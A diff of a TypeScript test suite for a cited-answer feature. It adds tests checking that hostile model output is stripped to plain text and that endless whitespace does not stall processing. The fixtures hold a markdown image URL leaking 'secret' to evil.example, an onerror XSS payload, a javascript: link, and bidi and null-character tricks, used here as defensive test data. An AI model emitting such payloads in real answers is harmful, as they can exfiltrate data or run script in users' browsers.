@@ -173,7 +173,29 @@ describe.each(['drawn from passages', 'by a model'] as const)('an answer %s', wa
       seen.push(item.text)
       finish()
     }
-    expect(seen).toEqual(['Annual leave is', ' 25 days.'])
+    expect(seen).toEqual(['Annual leave', ' is 25', ' days.'])
+  })
+
+  it('is plain text, whatever the model writes, and its citations count in that text', async () => {
+    model.behave = say([
+      '![x](https://evil.example/p.png?d=secret) <img src=x onerror=alert(1)> [click](javascript:alert(1))\n\n',
+      'Annual **leave** is <b>25 days</b> \u202Eand\u0000 fun \ud83d',
+      '\ude00 for [all](//evil.example) \ud800【1】.\nWrite to ceo@evil.example [1-2].',
+    ])
+    const { text, answer } = await listen(LEAVE)
+    expect(text).toBe('click\nAnnual leave is 25 days and fun 😀 for all \ufffd.\nWrite to.')
+    expect(answer?.text).toBe(text)
+    const [first] = answer?.citations ?? []
+    expect([...text].slice(first?.start, first?.end).join('')).toBe(
+      'Annual leave is 25 days and fun 😀 for all \ufffd.',
+    )
+  })
+
+  it('is not held up by white space without end', async () => {
+    model.behave = say([`A${' '.repeat(100_000)}b.`])
+    const started = performance.now()
+    expect((await ask(LEAVE)).answer).toMatchObject({ model: null })
+    expect(performance.now() - started).toBeLessThan(2_000)
   })
 
   it('is grounded where the model keeps to the passages, in Korean as well', async () => {
